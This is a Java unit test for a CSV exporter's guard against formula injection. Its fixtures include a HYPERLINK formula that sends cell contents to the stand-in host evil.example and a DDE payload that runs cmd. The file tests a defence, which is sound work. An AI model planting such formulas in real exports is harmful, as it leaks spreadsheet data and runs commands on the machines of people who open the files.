package io.github.eventline.export.csv;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.eventline.core.Actor;
import io.github.eventline.core.Assertion;
import io.github.eventline.core.Claim;
import io.github.eventline.core.Event;
import io.github.eventline.core.EventId;
import io.github.eventline.core.Place;
import io.github.eventline.core.Source;
import io.github.eventline.core.Story;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Hostile text (OWASP CSV injection) in every kind of text cell; numbers stay numbers. */
class FormulaGuardTest {

  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  static final String DDE = "=cmd|' /C calc'!A0";
  static final String QUOTED = "He said \"stop, now\",\nthen left;\r\nand came back";

  /** Event summaries, one per hostile text. */
  static final List<String> HOSTILE =
      List.of(HYPERLINK, DDE, "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", "'quoted already", QUOTED,
          "plain text, with a comma");

  static Story hostileStory() {
    Story.Builder story = Story.builder();
    for (int i = 0; i < HOSTILE.size(); i++) {
      story.event(Event.builder(EventId.of("e" + i), HOSTILE.get(i)).build());
    }
    return story
        .actor(Actor.builder("evil", "@SUM(1+1)*cmd").alias("-2+3", "a|b", "back\\slash", "+1").build())
        .place(Place.builder("south-west", "-West").coordinates(-10.25, -3.5).build())
        .source(Source.builder("s", "+source").url(DDE).build())
        .assertion(
            Assertion.builder("q", "s", new Claim.Quantity(EventId.of("e0"), "temperature", -12.5, -2, java.util.Optional.of("-C"), false))
                .quote(QUOTED, "en").note(HYPERLINK).build())
        .build();
  }

  @Test
  void guard_prefixesEveryHostileSummaryWithAQuote() throws IOException {
    List<Map<String, String>> rows = CsvRead.rows(out -> CsvTables.writeEvents(hostileStory(), out, CsvOptions.defaults()));
    for (int i = 0; i < HOSTILE.size(); i++) {
      String original = HOSTILE.get(i);
      String cell = rows.get(i).get("summary");
      if (CsvCells.needsGuard(original)) {
        assertThat(cell).as(original).isEqualTo("'" + original);
      } else {
        assertThat(cell).as(original).isEqualTo(original);
      }
      assertThat(CsvCells.unguard(cell)).isEqualTo(original);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {HYPERLINK, DDE, "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1"})
  void guard_noCellOfTheFileStartsWithAFormulaCharacter(String hostile) throws IOException {
    Story story = Story.builder().event(Event.builder("e", hostile).build()).build();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvTables.writeEvents(story, out, CsvOptions.defaults());
    Map<String, String> row = CsvRead.rows(out.toByteArray()).get(0);
    assertThat(row.get("summary")).isEqualTo("'" + hostile);
    for (String cell : row.values()) {
      assertThat(cell.isEmpty() ? ' ' : cell.charAt(0)).as(cell).isNotIn('=', '+', '-', '@', '\t', '\r', '\n');
    }
  }

  @Test
  void guard_rawBytesOfTheHyperlinkCell() throws IOException {
    Story story = Story.builder().event(Event.builder("e", HYPERLINK).build()).build();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvTables.writeEvents(story, out, CsvOptions.defaults());
    assertThat(out.toString(UTF_8).split("\r\n")[1])
        .isEqualTo("e,event,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",,,,,,,,,");
  }

  @Test
  void guard_tabAndCarriageReturnCellsAreQuotedAndPrefixed() throws IOException {
    Story story = Story.builder().event(Event.builder("e", "\r=1").build(), Event.builder("f", "\t=1").build()).build();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvTables.writeEvents(story, out, CsvOptions.defaults());
    assertThat(out.toString(UTF_8)).contains("\r\ne,event,,,\"'\r=1\",").contains("\r\nf,event,,,'\t=1,");
  }

  @Test
  void guard_appliesToNamesAliasesUrlsUnitsQuotesAndNotes() throws IOException {
    Story story = hostileStory();
    Map<String, String> actor = CsvRead.rows(out -> CsvTables.writeActors(story, out, CsvOptions.defaults())).get(0);
    assertThat(actor).containsEntry("name", "'@SUM(1+1)*cmd").containsEntry("aliases", "'-2+3|a\\|b|back\\\\slash|+1");
    assertThat(CsvCells.split(CsvCells.unguard(actor.get("aliases")))).containsExactly("-2+3", "a|b", "back\\slash", "+1");
    Map<String, String> source = CsvRead.rows(out -> CsvTables.writeSources(story, out, CsvOptions.defaults())).get(0);
    assertThat(source).containsEntry("name", "'+source").containsEntry("url", "'" + DDE);
    Map<String, String> assertion =
        CsvRead.rows(out -> CsvTables.writeAssertions(story, out, CsvOptions.defaults())).get(0);
    assertThat(assertion).containsEntry("unit", "'-C").containsEntry("quote", QUOTED).containsEntry("note", "'" + HYPERLINK);
  }

  @Test
  void guard_leavesNegativeNumbersInNumericColumnsAlone() throws IOException {
    Story story = hostileStory();
    ByteArrayOutputStream places = new ByteArrayOutputStream();
    CsvTables.writePlaces(story, places, CsvOptions.defaults());
    assertThat(places.toString(UTF_8)).isEqualTo("id,name,aliases,country,lat,lon,within\r\nsouth-west,'-West,,,-10.25,-3.5,\r\n");
    Map<String, String> assertion =
        CsvRead.rows(out -> CsvTables.writeAssertions(story, out, CsvOptions.defaults())).get(0);
    assertThat(assertion).containsEntry("low", "-12.5").containsEntry("high", "-2").containsEntry("approximate", "false");
  }

  @Test
  void guardOff_writesTextAsIs() throws IOException {
    Story story = hostileStory();
    CsvOptions raw = CsvOptions.defaults().withFormulaGuard(false);
    List<Map<String, String>> rows = CsvRead.rows(out -> CsvTables.writeEvents(story, out, raw));
    for (int i = 0; i < HOSTILE.size(); i++) {
      assertThat(rows.get(i).get("summary")).isEqualTo(HOSTILE.get(i));
    }
    Map<String, String> actor = CsvRead.rows(out -> CsvTables.writeActors(story, out, raw)).get(0);
    assertThat(actor).containsEntry("name", "@SUM(1+1)*cmd");
    assertThat(CsvCells.split(actor.get("aliases"))).containsExactly("-2+3", "a|b", "back\\slash", "+1");
  }

  @Test
  void quotedTextWithCommasAndNewlinesRoundTrips() throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvTables.writeAssertions(hostileStory(), out, CsvOptions.defaults());
    String csv = out.toString(UTF_8);
    assertThat(csv).contains(",\"He said \"\"stop, now\"\",\nthen left;\r\nand came back\",en,");
    assertThat(CsvRead.rows(out.toByteArray()).get(0).get("quote")).isEqualTo(QUOTED);
  }
}
